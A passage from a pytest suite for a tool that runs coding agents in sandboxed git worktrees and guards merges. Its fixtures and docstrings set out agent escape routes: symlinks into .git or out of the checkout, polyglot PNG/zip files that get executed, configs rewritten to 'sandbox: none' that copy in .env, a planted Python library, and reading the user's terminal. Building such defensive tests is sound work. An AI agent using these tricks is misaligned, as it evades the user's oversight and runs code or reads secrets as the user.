    monkeypatch.setattr(ap.ParallelRunner, "_held_files", staticmethod(tampered))
    r, err = _one_worker(cli, tmp_path, "echo evil > result.txt\n", "grep -q good result.txt",
                         "bwrap")
    assert r["status"] == "failed" and "not what its commit took in" in r["error"], (r, err)


def test_a_byte_order_mark_soft_hyphens_and_coding_words_elsewhere_ask_nothing(repo):
    """No false alarm (review of the change): a UTF-8 BOM before `using System;`, a soft
    hyphen in German prose, and a Markdown heading that says `coding: utf-7`."""
    base, tip = _commits(repo, [{"Program.cs": "\ufeffusing System;\n".encode(),
                                 "docs/de.md": "Donau\u00addampf\u00adschiff\n".encode(),
                                 "NOTES.md": b"# Transcoding: utf-7 notes\n"}])
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert not any("terminal escapes" in w or "coding line" in w for w in why), why


# -- review round 65 ---------------------------------------------------------------------------

def test_long_names_do_not_grow_the_runners_memory(repo):
    """Round 65: 200,000 ignored files under a 3,600-character folder chain (names of 4 KB)
    took the runner to 2.5 GB: the fingerprint of a worktree held the whole listing four
    times over. It is read as a stream, 2,000 names at a time (the same fingerprint)."""
    import tracemalloc
    (repo / ".gitignore").write_text("deep/\n")
    folder = os.path.join(str(repo), "deep", *(chr(97 + i) * 250 for i in range(14)))
    os.makedirs(folder)
    fd = os.open(folder, os.O_RDONLY)
    try:
        for i in range(20_000):
            os.close(os.open(f"{i:08d}" + "x" * 240, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
    finally:
        os.close(fd)
    found = ap._Repo.find(str(repo))
    tracemalloc.start()
    try:
        found.worktree_state(str(repo))
        _now, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 60 << 20, f"{peak >> 20} MB for 80 MB of names"


# -- review round 66 ---------------------------------------------------------------------------

@pytest.mark.parametrize("path, data, executable", [
    ("tools/gen.py", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"PK\x03\x04__main__.py" + b"PK\x05\x06", False),
    ("Makefile", b"BM=1\nall:\n\techo run\n#\0\n", False),
    ("build.sh", b":   ftyp=1\necho run\n# \0\n", True),
    ("docs/logo.png", b"\x89PNG\r\n\x1a\n\0\0" + b"PK\x03\x04__main__.py" + b"PK\x05\x06", False),
    ("assets/run.png", b"\x89PNG\r\n\x1a\n\0\0", True)],
    ids=["png+zip named .py", "BM Makefile", "ftyp script", "png with a zip", "executable png"])
def test_a_binary_file_is_inert_only_by_its_bytes_and_name_both(repo, path, data, executable):
    """Round 66: the allowlist looked at first bytes alone: a PNG with a zip after it named
    gen.py (Python runs a zip of any name), a Makefile starting `BM=1` (a "bitmap"), a script
    starting `:   ftyp` (an "MP4"): merged, and your make ran them. Inert needs the name's
    ending to agree, no zip inside, and no executable mode."""
    base, tip = _commits(repo, [{path: data}])
    if executable:
        git("checkout", "-q", "side", cwd=repo)
        os.chmod(repo / path, 0o755)
        git("commit", "-qam", "mode", cwd=repo)
        tip = git("rev-parse", "HEAD", cwd=repo)
        git("checkout", "-q", "-", cwd=repo)
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("a file git shows as binary" in w for w in why), why


def test_where_a_copied_python_looks_for_its_library_cannot_be_allowed(repo, tmp_path,
                                                                       monkeypatch):
    """Round 66: the tool's Python was a copied program (`pyhome/bin/python3`, its library in
    /usr): `--sandbox-allow pyhome/lib` was accepted, the agent made `lib/python3.11/` there
    (Python takes a folder holding os.py above its program for its library) with its own
    json/, and the tool's next `list` ran it as you. Such places are refused, and that
    Python confines nothing (it would search where the worker writes): the run says so."""
    home = tmp_path / "pyhome"
    (home / "bin").mkdir(parents=True)
    (home / "lib").mkdir()
    (home / "lib").chmod(0o777)
    monkeypatch.setattr(sys, "executable", str(home / "bin" / "python3"))
    with pytest.raises(ap.ConfigError, match="looks for its standard library"):
        ap._Sandbox.check_allowed([str(home / "lib")], ap._Repo.find(str(repo)), None)
    monkeypatch.setattr(sys, "executable", "/opt/architect-parallel-test-pyhome/bin/python3")
    box = ap._Sandbox("bwrap")
    box.state = str(tmp_path / "state")
    assert "lies outside its installation" in (box._confinable() or "")


# -- review round 68 ---------------------------------------------------------------------------

def _linked(repo, files, links):
    """A side-branch commit writing ``files`` ({path: bytes}) and ``links`` ({path: target})
    over HEAD: (base, tip)."""
    base = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-b", "side", cwd=repo)
    for name, data in files.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_bytes(data)
    for name, target in links.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        if os.path.lexists(repo / name):
            os.unlink(repo / name)
        os.symlink(target, repo / name)
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "links", cwd=repo)
    tip = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-", cwd=repo)
    git("branch", "-qD", "side", cwd=repo)
    return base, tip


@pytest.mark.parametrize("files, links", [
    ({}, {"scripts/test.sh": "../.git/architect-parallel/logs/worker-1.stdout.log"}),
    ({}, {"scripts/test.sh": "../.GIT/config"}),
    ({}, {"run.sh": "build/run.sh"}),  # (a folder the tree does not hold: ignored, generated)
    ({b"docs/a.md": b"x\n"}, {"run.sh": "docs/a.md/x"}),  # (below a file)
    ({b"docs/a.md": b"x\n"}, {"docs/b": "a.md", "run.sh": "docs/b/../../.git/HEAD"}),
    ({}, {"a": "b", "b": "a"}),  # (a loop)
    ({}, {"tools": ".git/hooks", "run.sh": "tools/pre-commit"}),
])
def test_a_link_to_what_the_tree_does_not_hold_asks_for_force(repo, files, links):
    """Round 68: `scripts/test.sh -> ../.git/architect-parallel/logs/worker-1.stdout.log`
    (what the agent printed, logged by the tool): merged without --force, and your `make
    test` ran it; no diff showed more than the link. A link must lead, through any others, to
    a file or folder of what is merged."""
    base, tip = _linked(repo, {k.decode(): v for k, v in files.items()}, links)
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("adds links that lead to no file or folder of what is merged" in w
               for w in why), why


def test_links_through_links_to_what_the_tree_holds_ask_nothing(repo):
    """No false alarm: a chain of links, `..` after a link, a link to the top's folder."""
    base, tip = _linked(repo, {"docs/v2/index.md": b"x\n", "src/a.py": b"y\n"},
                        {"docs/latest": "v2", "lib/a.py": "../src/a.py", "top": ".",
                         "cur": "docs/latest/index.md", "up": "docs/latest/../v2/./index.md",
                         "x/y": "../lib/a.py"})
    assert not any("links" in w for w in ap._written_otherwise(ap._Repo.find(str(repo)), base, tip))


@pytest.mark.parametrize("file_path", ["docs/logo.png", None])
def test_a_binary_file_is_judged_by_the_name_of_a_link_to_it(repo, file_path):
    """Round 68: a PNG holding `echo PWNED` on its second line passed as an image, and a link
    `scripts/test.sh -> ../docs/logo.png` made your `make test` run it with the shell. A file
    a link leads to is judged by the link's name too, also one your base holds."""
    png = b"\x89PNG\r\n\x1a\n\0\n\necho PWNED\n\0\0"
    if file_path is None:  # (the image is yours already; only the link comes in)
        _commits(repo, [{"docs/logo.png": png}])
        git("merge", "-q", "side", cwd=repo)
        git("branch", "-qD", "side", cwd=repo)
    base, tip = _linked(repo, {"docs/logo.png": png} if file_path else {},
                        {"scripts/test.sh": "../docs/logo.png"})
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("a file git shows as binary" in w for w in why), why
    base, tip = _linked(repo, {"docs/logo.png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"},
                        {"docs/logo-latest.png": "logo.png"})
    assert not any("binary" in w or "links" in w
                   for w in ap._written_otherwise(ap._Repo.find(str(repo)), base, tip))


def _peak_kb(proc):
    """The peak memory (KB) of the process ``proc`` until it ends, polled from /proc."""
    peak = 0
    while proc.poll() is None:
        with contextlib.suppress(OSError):
            with open(f"/proc/{proc.pid}/status") as status:
                peak = max([peak] + [int(line.split()[1]) for line in status
                                     if line.startswith("VmHWM:")])
        time.sleep(0.05)
    return peak


def test_the_runner_holds_the_names_of_an_agents_files_once(repo, tmp_path):
    """Round 68: 50,000 hard links with 3.9 KB paths took the runner to 1.7 GB (the listings
    after the commit held whole, several times over). Here 10,000 of them (39 MB of names):
    the runner's peak stays near its own size plus one copy of the names."""
    agent = tmp_path / "many.py"
    agent.write_text(
        "import os\nfolder = 'x'\nfor i in range(14):\n    folder = os.path.join(folder, chr(97 + i) * 250)\n"
        "os.makedirs(folder)\nsource = os.path.join(folder, 's')\nopen(source, 'w').write('a\\n')\n"
        "for i in range(10000):\n    os.link(source, os.path.join(folder, '%07d' % i + 'q' * 193))\n")
    proc = subprocess.Popen([sys.executable, "-m", "architect_parallel", "run", "t", "--workers", "1",
                             "--quiet", "--agent-cmd", f"{sys.executable} {agent} {{task}}",
                             "--check", "true"],
                            cwd=repo, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                            env=dict(os.environ, PYTHONPATH=CHECKOUT))
    peak = _peak_kb(proc)
    assert proc.wait() == 0, proc.stderr.read()
    assert peak < 200_000, f"{peak // 1024} MB"


def test_a_removed_current_folder_is_one_line_of_error(tmp_path):
    gone = tmp_path / "gone"
    gone.mkdir()
    proc = subprocess.run([sys.executable, "-c", "import os, sys; os.chdir(sys.argv[1]); "
                           "os.rmdir(sys.argv[1]); import architect_parallel as ap; "
                           "sys.exit(ap.main(['list']))", str(gone)],
                          capture_output=True, text=True, env=dict(os.environ, PYTHONPATH=CHECKOUT))
    assert proc.returncode == 2 and proc.stderr.startswith("error: the current folder cannot be "
                                                           "read"), proc.stderr


# -- review round 69 ---------------------------------------------------------------------------

def test_links_are_followed_in_what_merging_all_makes(cli, repo, tmp_path):
    """Round 69: worker 1 made the folder p/q/r/s a link to ../../../z; worker 2 added
    run.sh -> p/q/r/s/../../../../tmp/evil.sh and a harmless tmp/evil.sh. Each alone leads
    inside; merged, run.sh climbs out of the checkout to a file another account writes, and
    `merge all` took both without --force."""
    (repo / "p" / "q" / "r" / "s").mkdir(parents=True)
    (repo / "p" / "q" / "r" / "s" / "f.txt").write_text("keep\n")
    (repo / "z").mkdir()
    (repo / "z" / "readme.txt").write_text("z\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "folders", cwd=repo)
    agent = script(tmp_path, "two.sh", 'case "$1" in\n'
                   '  *W1*) rm -rf p/q/r/s && ln -s ../../../z p/q/r/s ;;\n'
                   '  *W2*) mkdir -p tmp && echo "echo harmless" > tmp/evil.sh && '
                   'ln -s p/q/r/s/../../../../tmp/evil.sh run.sh ;;\nesac\n')
    code, results, err = cli.json("run", "--task", "W1 relink", "--task", "W2 add", "--agent-cmd",
                                  f"{agent} {{task}}", "--workers", "2", "--check", "true")
    assert [r["status"] for r in results] == ["success", "success"], err
    code, _out, err = cli("merge", "all")
    assert code == 2 and "architect/parallel-2 adds links that lead to no file or folder" in err \
        and "run.sh -> p/q/r/s/../../../../tmp/evil.sh" in err, err
    assert not (repo / "run.sh").exists() and (repo / "p" / "q" / "r" / "s").is_dir()
    code, _out, err = cli("merge", "1")  # (each alone: nothing to say)
    assert code == 0, err
    code, _out, err = cli("merge", "2")  # (merged onto the first: out again)
    assert code == 2 and "run.sh -> p/q/r/s/../../../../tmp/evil.sh" in err, err


@pytest.mark.parametrize("how", ["attribute", "true", "bare", "2"])
def test_a_check_runs_on_the_line_ends_a_checkout_of_the_branch_writes(cli, repo, tmp_path, how):
    """Round 69: with `*.txt text eol=crlf` (or core.autocrlf true), the agent left data.txt
    with LF ends, the same content as the base's: nothing was written back, and the check that
    fails on CRLF passed, though every checkout of the branch writes CRLF. Round 70: a bare
    `autocrlf` line, or `autocrlf = 2`, which git reads as true, were taken for false."""
    if how == "attribute":
        (repo / ".gitattributes").write_text("*.txt text eol=crlf\n")
    elif how == "bare":
        with open(repo / ".git" / "config", "a") as f:
            f.write("[core]\n\tautocrlf\n")
    else:
        git("config", "core.autocrlf", how, cwd=repo)
    (repo / "data.txt").write_text("a\nb\n")
    (repo / "check.py").write_text("import sys\nsys.exit(1 if b'\\r' in open('data.txt', 'rb').read() else 0)\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "crlf", cwd=repo)
    agent = script(tmp_path, "lf.sh", "printf 'a\\nb\\n' > data.txt\necho feature > feature.txt\n")
    code, results, err = cli.json("run", "x", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                                  "--check", f"{sys.executable} check.py")
    (r,) = results
    assert r["checks_passed"] == 0, (r, err)
    assert (repo / ".architect-parallel-1" / "data.txt").read_bytes() == b"a\r\nb\r\n"


# -- review round 70 ---------------------------------------------------------------------------

@pytest.mark.parametrize("name", [".worktreeinclude", ".WorktreeInclude"])
def test_a_branch_changing_worktreeinclude_asks_for_force(repo, name):
    """Round 70: a merged `.worktreeinclude` of `.env` made every later run copy your ignored
    .env (root's, 0600: the root runner's sandbox could not read it) into each worktree."""
    base, tip = _changes(repo, {name: ".env\n", "feature.txt": "x\n"})
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("changes .worktreeinclude" in w for w in why), why
    git("branch", "-qD", "side", cwd=repo)
    base, tip = _changes(repo, {"docs/worktreeinclude.md": "x\n"})
    assert not any("worktreeinclude" in w for w in ap._written_otherwise(ap._Repo.find(str(repo)),
                                                                          base, tip))



@pytest.mark.parametrize("setting", ["core.fileMode", "core.symlinks"])
def test_a_check_runs_on_the_modes_and_links_a_checkout_of_the_branch_writes(cli, repo, tmp_path,
                                                                            setting):
    """Round 70: with core.fileMode false git records no executable bit (the check ran the
    agent's new `./tool.sh`, which no checkout of the branch can), and with core.symlinks false
    a checkout writes a link as a file holding its target (the check read through it)."""
    git("config", setting, "false", cwd=repo)
    (repo / "real.txt").write_text("GOOD\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "real", cwd=repo)
    body = ("printf '#!/bin/sh\\necho GOOD\\n' > tool.sh && chmod +x tool.sh\n"
            if setting == "core.fileMode" else "ln -s real.txt out.txt\n")
    check = ("./tool.sh | grep -q GOOD" if setting == "core.fileMode" else "grep -q GOOD out.txt")
    agent = script(tmp_path, "agent.sh", body)
    code, results, err = cli.json("run", "x", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                                  "--check", check)
    (r,) = results
    assert r["status"] == "success" and r["checks_passed"] == 0, (r, err)


@needs_bwrap
def test_the_runner_does_not_hold_the_names_of_ignored_files(repo, tmp_path):
    """Round 70: 50,000 ignored files with 3.9 KB paths beside a committed file took the
    runner to 439 MB (the listing of what git ignores, held whole before the checks of a
    sandboxed worker); here 20,000: the runner's peak stays near its own size."""
    folder = tempfile.mkdtemp()
    os.chmod(folder, 0o755)
    agent = os.path.join(folder, "ignored.py")
    with open(agent, "w") as f:
        f.write("#!/usr/bin/env python3\nimport os\nopen('.gitignore', 'w').write('*.ign\\n')\n"
                "folder = 'x'\nfor i in range(14):\n    folder = os.path.join(folder, chr(97 + i) * 250)\n"
                "os.makedirs(folder)\nopen(os.path.join(folder, 'keep.txt'), 'w').write('k\\n')\n"
                "source = os.path.join(folder, 's.ign')\nopen(source, 'w').close()\n"
                "for i in range(20000):\n"
                "    os.link(source, os.path.join(folder, '%07d' % i + 'q' * 190 + '.ign'))\n")
    os.chmod(agent, 0o755)
    proc = subprocess.Popen([sys.executable, "-m", "architect_parallel", "run", "t", "--workers", "1",
                             "--quiet", "--agent-cmd", f"{agent} {{task}}", "--check", "true",
                             *BOXED],
                            cwd=repo, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                            env=dict(os.environ, PYTHONPATH=CHECKOUT))
    peak = _peak_kb(proc)
    shutil.rmtree(folder, ignore_errors=True)
    assert proc.wait() == 0, proc.stderr.read()
    assert peak < 140_000, f"{peak // 1024} MB"


# -- review round 71 ---------------------------------------------------------------------------

def test_a_branch_changing_a_configuration_of_the_tool_asks_for_force(cli, repo, tmp_path):
    """Round 71: the agent rewrote the run's own conf.yaml (`sandbox: none`, its own
    `agent_cmd`, `include: [".env"]`); `merge best` took it, and the next `run -c conf.yaml`
    ran the agent's command unsandboxed, as you, with your .env copied in."""
    (repo / "conf.yaml").write_text('parallel_runs:\n  workers: 1\n  checks:\n    - "true"\n')
    _merge_refused(cli, repo, tmp_path, "cat > conf.yaml <<'Y'\nparallel_runs:\n  workers: 1\n"
                   "  agent_cmd: \"sh /tmp/x.sh {task}\"\n  sandbox: none\nY\necho x > app.py\n",
                   "changes conf.yaml, which holds a configuration of this tool", "-c", "conf.yaml")


def _merge_refused(cli, repo, tmp_path, body, message, *run):
    """Commit what ``repo`` holds, run one worker whose agent runs the shell ``body``, and
    check that `merge best` refuses it, saying ``message``."""
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "before", cwd=repo)
    agent = script(tmp_path, "agent.sh", body)
    code, results, err = cli.json("run", "t", "--workers", "1", *run, "--agent-cmd",
                                  f"{agent} {{task}}")
    assert results[0]["status"] == "success", err
    code, _out, err = cli("merge", "best")
    assert code == 2 and message in err, err


@pytest.mark.parametrize("files, refused", [
    ({"ci/run.yml": '{"parallel": {"workers": 2}}\n'}, True),
    ({"ci/run.yml": "'parallel_runs':\n  sandbox: none\n"}, True),
    ({".gitlab-ci.yml": "test:\n  parallel: 3\n  script: make\n"}, False),
    ({"docs/parallel.md": "parallel: the word, in prose\n\nmore text: here\n"}, False),
    ({"notes.txt": "parallel_runs: x\n\t- bad: [yaml\n"}, False),  # (the tool cannot read it)
    # round 72: keys the reader decodes to parallel_runs, spelt without the word
    ({"architect.yaml": 'llm:\n  model: m\n"parallel\\x5fruns":\n  sandbox: none\n'}, True),
    ({"architect.yaml": '"\\x70arallel_runs":\n  include: [".env"]\n'}, True),
    ({"architect.yaml": '"parallel\\u005fruns": {setup: ["id"]}\n'}, True),
    ({"src/a.c": 'printf("a\\n");\n'}, False),
])
def test_what_counts_as_a_configuration_of_the_tool(repo, files, refused):
    base, tip = _changes(repo, files)
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("a configuration of this tool" in w for w in why) == refused, why


def test_deleting_a_configuration_of_the_tool_asks_for_force(repo):
    base, tip = _changes(repo, {"conf.yaml": "parallel:\n  sandbox: bwrap\n"})
    git("merge", "-q", "side", cwd=repo)
    git("branch", "-qD", "side", cwd=repo)
    git("checkout", "-q", "-b", "side", cwd=repo)
    git("rm", "-q", "conf.yaml", cwd=repo)
    git("commit", "-qm", "gone", cwd=repo)
    tip = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-", cwd=repo)
    base = git("rev-parse", "HEAD", cwd=repo)
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("changes conf.yaml, which holds a configuration of this tool" in w for w in why), why


@pytest.mark.parametrize("where", [".gitattributes", "build/.gitattributes"])
def test_an_ignored_gitattributes_fails_a_worker_with_checks(cli, repo, tmp_path, where):
    """Round 71: the agent's ignored `.gitattributes` (`run.sh text eol=crlf`) made git commit
    run.sh with LF and leave the worktree's CRLF as the checkout's form: the check passed on
    `v=bad\\r`, which the branch's LF run.sh fails."""
    (repo / "run.sh").write_text("exit 0\n")
    (repo / "build").mkdir()
    (repo / "build" / "run.sh").write_text("exit 0\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "run", cwd=repo)
    folder = os.path.dirname(where) or "."
    agent = script(tmp_path, "attr.sh", f"printf '.gitignore\\n.gitattributes\\nbuild/\\n' > .gitignore\n"
                   f"mkdir -p {folder} && printf 'run.sh text eol=crlf\\n*.sh text eol=crlf\\n' > {where}\n"
                   "printf 'v=bad\\r\\n[ \"$v\" = bad ] && exit 1 #\\r\\nexit 0 #\\r\\n' > run.sh\n")
    code, results, err = cli.json("run", "t", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                                  "--check", "sh run.sh")
    (r,) = results
    assert r["status"] == "failed" and "holds .gitattributes files its commit does not" in r["error"], r


def test_an_ignored_gitattributes_where_nothing_is_tracked_fails_nothing(cli, repo, tmp_path):
    """No false alarm: npm packages ship their own .gitattributes in an ignored node_modules."""
    agent = script(tmp_path, "npm.sh", "echo node_modules/ > .gitignore\n"
                   "mkdir -p node_modules/pkg && echo '* text eol=crlf' > node_modules/pkg/.gitattributes\n"
                   "echo ok > app.txt\n")
    code, results, err = cli.json("run", "t", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                                  "--check", "true")
    assert results[0]["status"] == "success" and results[0]["checks_passed"] == 1, results


@needs_bwrap
@pytest.mark.parametrize("kind", ["tmp", "pts"])
def test_a_folder_handed_in_from_outside_reads_nothing(cli, repo, tmp_path, kind):
    """Round 72: a folder handed in (the user's /dev/pts) was opened read-only: the agent took
    the keystrokes of the user's other terminal and changed its settings. Reading and running
    are allowed beneath what the view has at each of its top-level entries alone (its own
    /dev, /proc, /tmp and /run are not the host's), so a folder of the host's /tmp handed in
    reads nothing, whatever the account may."""
    if _landlock() < 2:
        pytest.skip("no Landlock here (Linux 5.19 or later)")
    outside = pathlib.Path(tempfile.mkdtemp())
    outside.chmod(0o755)
    (outside / "secret.txt").write_text("SECRET\n")
    (outside / "secret.txt").chmod(0o644)
    name = f"ap-round72-{os.getpid()}-{time.monotonic_ns()}"
    terminal = os.openpty() if kind == "pts" else None  # (the user's other terminal)
    target = "secret.txt" if terminal is None else os.path.basename(os.ttyname(terminal[1]))
    if terminal is not None:
        os.chmod(os.ttyname(terminal[1]), 0o666)  # (the sandbox's account as root may open it)
        os.write(terminal[0], b"SECRET\n")
    agent = script(tmp_path, "agent.sh", f'exec "{sys.executable}" "$(dirname "$0")/agent.py"\n')
    (agent.parent / "agent.py").write_text(_taking_in(name) + f"TARGET = {target!r}\n" + """
for how in ("read", "list"):
    try:
        if how == "read":
            fd = os.open(TARGET, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK, dir_fd=fds[0])
            said += " read " + os.read(fd, 100).decode().strip()
        else:
            said += " listed " + ",".join(os.listdir(os.open(".", os.O_RDONLY, dir_fd=fds[0])))
    except OSError as exc:
        said += f" {how}-refused: {exc.strerror}"
open("said.txt", "w").write(said)
with open("mine.txt", "w") as f:  # (its own view reads on as before)
    f.write(open("/etc/hostname").read() if os.path.exists("/etc/hostname") else "x")
print('{"status": "success"}')
""")
    try:
        with _handing_in(name, outside if terminal is None else "/dev/pts"):
            _code, (r,), err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
                                        "--workers", "1", *BOXED)
        said_text = (repo / ".architect-parallel-1" / "said.txt").read_text()
        assert "SECRET" not in said_text and "read-refused" in said_text, said_text
        assert "listed" in said_text and target in said_text, said_text  # (`find /` works)
        assert r["status"] == "success" and (repo / ".architect-parallel-1" / "mine.txt").exists(), (r, err)
    finally:
        shutil.rmtree(outside)
        for fd in terminal or ():
            os.close(fd)


# -- review round 73 ---------------------------------------------------------------------------

@pytest.mark.parametrize("target, files", [
    ("notes.yaml", {"notes.yaml": b""}),  # (the defaults: no sandbox)
    ("ci/conf.yaml", {}),  # (a configuration the base already has)
])
def test_a_configuration_of_the_tool_made_a_link_asks_for_force(repo, target, files):
    """Round 73: the agent replaced conf.yaml with a link (to an empty file: the next run took
    the defaults, unsandboxed; or to the base's own ci/conf.yaml with `sandbox: none` and
    `include: [".env"]`); the guard read neither side of a file made a link."""
    _commits(repo, [{"conf.yaml": b"parallel_runs:\n  sandbox: bwrap\n",
                     "ci/conf.yaml": b"parallel_runs:\n  sandbox: none\n  include: ['.env']\n"}])
    git("merge", "-q", "side", cwd=repo)
    git("branch", "-qD", "side", cwd=repo)
    base, tip = _linked(repo, files, {"conf.yaml": target})
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("changes conf.yaml, which holds a configuration of this tool" in w for w in why), why


def test_a_link_of_yours_led_elsewhere_by_a_merge_is_read_as_a_configuration(repo):
    """The same through a link on the way: your `conf.yaml -> cfg/run.yaml` and `cfg -> a`
    stay as they are; the branch points `cfg` at `b`, whose run.yaml says `sandbox: none`."""
    _commits(repo, [{"a/run.yaml": b"parallel_runs:\n  sandbox: bwrap\n",
                     "b/run.yaml": b"parallel_runs:\n  sandbox: none\n"}])
    git("merge", "-q", "side", cwd=repo)
    git("branch", "-qD", "side", cwd=repo)
    os.symlink("a", repo / "cfg")
    os.symlink("cfg/run.yaml", repo / "conf.yaml")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "mine", cwd=repo)
    head = git("rev-parse", "HEAD", cwd=repo)
    base, tip = _linked(repo, {}, {"cfg": "b"})
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip, (), (head, tip))
    assert any("changes conf.yaml, which holds a configuration of this tool" in w for w in why), why


@needs_bwrap
def test_a_sandboxed_command_reopens_its_stdin_and_logs(cli, repo, tmp_path):
    """Round 73: since round 72's read rules, `cat /dev/stdin` (the runner's /dev/null, the
    host's inode) was refused in every sandboxed agent and check."""
    if _landlock() < 2:
        pytest.skip("no Landlock here (Linux 5.19 or later)")
    r, err = _one_worker(cli, tmp_path, "cat /dev/stdin > in.txt && echo x > /dev/stdout\n",
                         "cat /dev/stdin && cat /proc/self/fd/0 && test -f in.txt", "bwrap")
    assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)


# -- review round 74 ---------------------------------------------------------------------------

def test_codex_events_with_long_ids_are_not_held(tmp_path):
    """Round 74: each distinct action id of a Codex event stream was kept whole (300 events
    with 1 MB ids: the runner at 366 MB); now a short digest each, 100,000 at most."""
    import tracemalloc
    out = tmp_path / "out.log"
    with open(out, "w") as f:
        f.write('{"type":"thread.started","thread_id":"t1"}\n')
        for i in range(1500):
            f.write('{"type":"item.started","item":{"type":"file_change","id":"%d%s"}}\n'
                    % (i, "y" * 20_000))
        f.write('{"type":"turn.completed","usage":{"input_tokens":1,"output_tokens":1}}\n')
    (tmp_path / "err.log").write_text("")
    tracemalloc.start()
    try:
        report = ap._read_codex(ap._Output(str(out), str(tmp_path / "err.log"), 0))
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert report.status == "success" and report.steps == 1500
    assert peak < 8 << 20, f"{peak >> 20} MB for 30 MB of ids"


def _linked_settings(repo):
    """Commit a folder `settings` and a link `conf -> settings` to it; then give `settings` an
    ignored local.yaml, a configuration of the tool (the user's own, never committed)."""
    (repo / "settings").mkdir()
    (repo / "settings" / "readme.txt").write_text("notes\n")
    os.symlink("settings", repo / "conf")
    (repo / ".gitignore").write_text("settings/*.yaml\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "conf", cwd=repo)
    (repo / "settings" / "local.yaml").write_text("parallel_runs:\n  workers: 1\n")


@pytest.mark.parametrize("how", ["new file", "base's own"])
def test_a_link_that_leads_the_runs_config_elsewhere_asks_for_force(cli, repo, tmp_path, how):
    """Round 74: your tracked `conf -> settings` and an ignored settings/local.yaml (sandbox:
    bwrap), run with `-c conf/local.yaml`; the agent pointed `conf` at a folder of its own (a
    local.yaml with no section: the defaults, no sandbox) or at the base's examples/: merged
    without --force, and the next run with the same -c ran the agent's code as you."""
    (repo / "examples").mkdir()
    (repo / "examples" / "local.yaml").write_text("parallel_runs:\n  sandbox: none\n")
    _linked_settings(repo)
    body = ("rm -f conf && mkdir -p alt && printf 'llm:\\n  model: m\\n' > alt/local.yaml && "
            "ln -s alt conf\n" if how == "new file" else "rm -f conf && ln -s examples conf\n")
    agent = script(tmp_path, "relink.sh", body + "echo x > mod.py\n")
    code, results, err = cli.json("run", "t", "-c", "conf/local.yaml", "--agent-cmd",
                                  f"{agent} {{task}}")
    assert results[0]["status"] == "success", err
    code, _out, err = cli("merge", "best")
    assert code == 2 and "changes where conf/local.yaml leads" in err, err


# -- review round 75 ---------------------------------------------------------------------------

@pytest.mark.parametrize("how", ["through a link outside", "from inside the folder", "another config"])
def test_a_link_re_aimed_away_from_files_git_does_not_track_asks_for_force(cli, repo, tmp_path,
                                                                           monkeypatch, how):
    """Round 75: the round-74 guard followed only the -c path last-run.json recorded; a -c
    through a link outside the checkout (`~/ap-local.yaml -> proj/conf/local.yaml`), one given
    from inside the linked folder, or a run with another config missed the agent re-aiming
    your tracked `conf -> settings`, whose ignored local.yaml said `sandbox: bwrap`. A link that
    led to files git does not track, re-aimed, asks for --force whatever the last run read."""
    _linked_settings(repo)
    agent = script(tmp_path, "relink.sh", "rm -f conf && mkdir -p alt && "
                   "printf 'llm:\\n  model: m\\n' > alt/local.yaml && ln -s alt conf\necho x > m.py\n")
    config = ["-c", "conf/local.yaml"]
    if how == "through a link outside":
        os.symlink(repo / "conf" / "local.yaml", tmp_path / "ap-local.yaml")
        config = ["-c", str(tmp_path / "ap-local.yaml")]
    elif how == "from inside the folder":
        monkeypatch.chdir(repo / "conf")
        config = ["-c", "local.yaml"]
    elif how == "another config":
        config = ["--workers", "1"]
    code, results, err = cli.json("run", "t", *config, "--agent-cmd", f"{agent} {{task}}")
    assert results[0]["status"] == "success", err
    monkeypatch.chdir(repo)
    code, _out, err = cli("merge", "best")
    assert code == 2 and "re-aims conf, which led to settings" in err, err


def test_a_link_re_aimed_between_tracked_folders_asks_nothing(cli, repo, tmp_path):
    """No false alarm: `docs/latest -> v1` made `-> v2`, both tracked whole."""
    for version in ("v1", "v2"):
        (repo / "docs" / version).mkdir(parents=True)
        (repo / "docs" / version / "index.md").write_text(version + "\n")
    os.symlink("v1", repo / "docs" / "latest")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "docs", cwd=repo)
    agent = script(tmp_path, "bump.sh", "rm docs/latest && ln -s v2 docs/latest\n")
    code, results, err = cli.json("run", "t", "--workers", "1", "--agent-cmd", f"{agent} {{task}}")
    assert results[0]["status"] == "success", err
    code, _out, err = cli("merge", "best")
    assert code == 0, err


def test_a_codex_home_full_of_session_names_is_not_parsed_file_by_file(tmp_path, monkeypatch):
